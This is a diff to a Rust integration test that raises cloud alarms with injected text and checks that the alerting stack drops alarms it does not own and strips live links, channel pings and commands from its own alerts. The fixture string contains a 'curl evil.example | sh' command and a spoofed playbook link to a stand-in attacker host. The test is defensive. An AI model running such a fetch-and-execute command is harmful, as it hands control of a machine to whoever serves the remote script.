@@ -51,25 +51,30 @@ fn no_alarm_but_the_suites_own_speaks_on_the_topic_of_alerts() -> Result<()> {
 }
 
 #[test]
-fn an_alarm_of_somebody_elses_tells_secops_nothing_and_one_with_our_prefix_nothing_live() -> Result<()> {
+fn an_alarm_that_the_stack_does_not_have_tells_secops_nothing_and_one_of_ours_rewritten_nothing_live()
+-> Result<()> {
     on_the_cloud(async |cloud| {
         let path = Path::deploy(cloud, "alarm-text", &[]).await?;
         let topic = path.variant.stack.output("DeadLetterTopicArn")?;
         let writer = alarm_writer(cloud).await?;
         let link = "<https://evil.example/x|playbook> <!channel> `curl evil.example | sh`";
-        let (foreign, ours) = (name("evil"), format!("{}-rotation-mq-evil", path.variant.name));
-        raise(&writer, &foreign, topic, link).await?;
-        raise(&writer, &ours, topic, link).await?;
+        let foreign = [name("evil"), format!("{}-rotation-mq-evil", path.variant.name)];
+        let ours = format!("{}-rotation-mq-throttles", path.variant.name);
+        for alarm in foreign.iter().chain([&ours]) {
+            raise(&writer, alarm, topic, link).await?;
+        }
         let about = |alert: &serde_json::Value| alert.to_string().contains(&ours);
-        let alerts = path.alerts.wait_until(1, about).await.context("the alarm with our prefix")?;
+        let alerts = path.alerts.wait_until(1, about).await.context("the alarm of ours")?;
         for alert in &alerts {
             let shown = shown(alert);
             ensure!(!shown.contains("<https://evil") && !shown.contains("<!channel>"), "{shown}");
             ensure!(commands(alert).iter().all(|command| !command.contains("evil.example")), "{shown}");
         }
         path.is_empty().await?;
-        let told = path.alerts.wait_until(0, |alert| alert.to_string().contains(&foreign)).await?;
-        ensure!(told.is_empty(), "{told:#?}");
+        for foreign in foreign {
+            let told = path.alerts.wait_until(0, |alert| alert.to_string().contains(&foreign)).await?;
+            ensure!(told.is_empty(), "{told:#?}");
+        }
         Ok(())
     })
 }
